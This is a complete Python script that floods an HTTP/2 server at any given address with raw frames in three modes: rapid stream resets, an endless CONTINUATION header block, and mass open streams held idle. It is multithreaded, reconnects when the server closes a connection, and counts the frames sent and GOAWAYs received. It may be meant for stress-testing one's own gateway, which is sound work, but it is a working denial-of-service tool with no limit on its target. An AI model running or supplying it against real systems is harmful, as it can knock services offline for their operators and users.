#!/usr/bin/env python3
"""HTTP/2 floods against a gateway, in raw frames (what no client library would send).

    h2flood.py MODE HOST:PORT SECONDS [CONNECTIONS]

MODE:
  rapid-reset    each connection opens streams and resets them at once (HEADERS, RST_STREAM),
                 as fast as it can, reconnecting whenever the server closes it
  continuation   each connection sends a header block that never ends (CONTINUATION frames)
  streams        each connection opens as many streams as it may, each with a body that
                 never comes, and holds them

Prints one JSON line: connections made, frames written, GOAWAYs received.
"""

import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# GET http://localhost/ : indexed :method GET, :scheme http, :path /, literal :authority
BLOCK = bytes([0x82, 0x86, 0x84, 0x01, 9]) + b"localhost"
HEADER = bytes([0x00, 3]) + b"x-a" + bytes([100]) + b"a" * 100


class Totals:
    def __init__(self):
        self.lock = threading.Lock()
        self.connections = 0
        self.frames = 0
        self.goaways = 0

    def add(self, frames, goaway):
        with self.lock:
            self.connections += 1
            self.frames += frames
            self.goaways += int(goaway)


def saw_goaway(sock):
    """Reads what the server sends (briefly); whether a GOAWAY came."""
    data = b""
    sock.settimeout(0.5)
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    at = 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == GOAWAY:
            return True
        at += 9 + length
    return False


def one_connection(mode, addr, until):
    sock = socket.create_connection(addr)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    frames = 0
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        if mode == "rapid-reset":
            stream = 1
            while time.time() < until and stream < 2**31 - 2:
                burst = b""
                for _ in range(100):
                    burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, BLOCK)
                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                    stream += 2
                sock.sendall(burst)
                frames += 200
        elif mode == "continuation":
            sock.sendall(frame(HEADERS, END_STREAM, 1, BLOCK))
            burst = frame(CONTINUATION, 0, 1, HEADER) * 100
            while time.time() < until:
                sock.sendall(burst)
                frames += 100
        elif mode == "streams":
            burst = b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, BLOCK) for i in range(1000))
            sock.sendall(burst)
            frames += 1000
            sock.settimeout(max(0.1, until - time.time()))
            while time.time() < until:
                if not sock.recv(65536):
                    break
    except OSError:
        pass
    return frames, saw_goaway(sock)


def worker(mode, addr, until, totals):
    while time.time() < until:
        try:
            frames, goaway = one_connection(mode, addr, until)
        except OSError:
            time.sleep(0.01)
            continue
        totals.add(frames, goaway)


def main():
    mode, target, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    connections = int(sys.argv[4]) if len(sys.argv) > 4 else 4
    host, port = target.rsplit(":", 1)
    addr = (host, int(port))
    until = time.time() + seconds
    totals = Totals()
    threads = [threading.Thread(target=worker, args=(mode, addr, until, totals)) for _ in range(connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps({"mode": mode, "connections": totals.connections, "frames": totals.frames, "goaways": totals.goaways}))


if __name__ == "__main__":
    main()
